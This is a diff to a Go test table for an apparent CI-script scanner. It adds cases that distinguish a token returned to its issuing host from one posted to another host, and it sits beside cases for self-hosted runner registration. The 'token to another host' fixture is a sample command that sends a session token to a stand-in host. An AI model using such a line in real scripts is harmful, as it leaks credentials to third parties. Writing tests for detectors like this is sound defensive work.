@@ -34,6 +34,10 @@ func TestSeverityByContext(t *testing.T) {
 		{"script starts the service it registered", "ci/agent.sh", "./config.sh --unattended --url https://github.com/x/y --token $T\nsudo ./svc.sh install && sudo ./svc.sh start", 2, "high runner-register"},
 		{"script mints for the repository it names", "ci/agent.py", "req = urllib.request.Request(f'https://api.github.com/repos/{R}/actions/runners/registration-token', method='POST')\nsubprocess.run(['./config.sh', '--url', f'https://github.com/{R}', '--token', t])", 1, "high runner-register"},
 		{"mint with no registration to follow", "ci/agent.sh", "T=$(gh api -X POST repos/$R/actions/runners/registration-token --jq .token)\n./run.sh --jitconfig \"$J\"", 1, "high runner-register"},
+		// A token fetched from a service goes back to that service as its
+		// use; to another host it leaves.
+		{"token back to its issuer", "scripts/reg.sh", "export SESSION_TOKEN=$(curl -s -X POST https://auth.x.invalid/login -d user=ci | jq -r .token)\n[ -n \"$SESSION_TOKEN\" ] || exit 1\ncurl -s -X POST https://auth.x.invalid/renew -d \"token=$SESSION_TOKEN\"", 3, "medium download"},
+		{"token to another host", "scripts/reg.sh", "export SESSION_TOKEN=$(curl -s -X POST https://auth.x.invalid/login -d user=ci | jq -r .token)\n[ -n \"$SESSION_TOKEN\" ] || exit 1\ncurl -s -X POST https://y.invalid/c -d \"token=$SESSION_TOKEN\"", 3, "high secret-send"},
 		// The name a request's reply is stored in receives it.
 		{"registration token fetched", "scripts/create-svc.sh", "export RUNNER_TOKEN=$(curl -s -X POST https://api.github.com/repos/x/y/actions/runners/registration-token -H \"authorization: token ${RUNNER_CFG_PAT}\" | jq -r '.token')\nif [ -z \"$RUNNER_TOKEN\" ]; then exit 1; fi", 1, "high runner-register"},
 		// Pipeline configuration from elsewhere that cannot move under the
